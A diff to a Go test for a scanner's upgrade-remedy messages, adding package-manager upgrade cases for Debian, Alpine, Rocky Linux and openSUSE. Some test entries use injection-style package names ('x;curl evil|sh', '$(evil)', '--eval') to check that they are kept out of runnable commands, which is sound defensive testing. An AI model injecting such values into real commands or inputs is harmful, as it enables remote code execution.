@@ -161,7 +161,13 @@ func TestUpgradeRemedy(t *testing.T) {
 		{at(nuget, "Newtonsoft.Json"), "13.0.1", "dotnet add package Newtonsoft.Json --version 13.0.1"},
 		{at(packagist, "a/b"), "v1.2.0", "composer require a/b:^1.2.0"},
 		{at(cratesIO, "time"), "0.2.23", "cargo update -p time --precise 0.2.23"},
-		{at("Debian:12", "curl"), "7.88.1-10+deb12u5", "update curl to 7.88.1-10+deb12u5 or later"},
+		{at("Debian:12", "curl"), "7.88.1-10+deb12u5", "apt-get update && apt-get install -y --only-upgrade curl"},
+		{ofBase(at("Debian:12", "curl")), "7.88.1", "rebuild on a newer base image, or: apt-get update && apt-get install -y --only-upgrade curl"},
+		{ofBase(at("Alpine:v3.19", "musl")), "1.2.4_git20230717-r5", "rebuild on a newer base image, or: apk upgrade --no-cache musl"},
+		{at("Rocky Linux:9", "openssl-libs"), "1:3.2.2-6.el9_5.1", "dnf upgrade -y openssl-libs"},
+		{at("openSUSE:Leap 15.5", "curl"), "8.0.1", "zypper update -y curl"},
+		{at("Debian:12", "curl"), "", "no fixed version is known: remove or replace curl, or waive it until a date"},
+		{ofBase(at("Debian:12", "$(evil)")), "1", "rebuild on a newer base image, or: update $(evil) with the distribution's package manager"},
 		{at(npm, "lodash"), "", "no fixed version is known: remove or replace lodash, or waive it until a date"},
 		{at(npm, "x;curl evil|sh"), "1.0.1", "update x;curl evil|sh to the version that its advisory calls fixed"},
 		{at(npm, "--eval"), "1.0.1", "update --eval to the version that its advisory calls fixed"},
@@ -174,6 +180,11 @@ func TestUpgradeRemedy(t *testing.T) {
 			t.Errorf("%s %q: %q, want %q", tt.p.Name, tt.fixed, got, tt.want)
 		}
 	}
+}
+
+func ofBase(p audit.Package) audit.Package {
+	p.Origin = audit.OriginBase
+	return p
 }
 
 // TestRemedyCuresAll holds that every finding of a package recommends the one
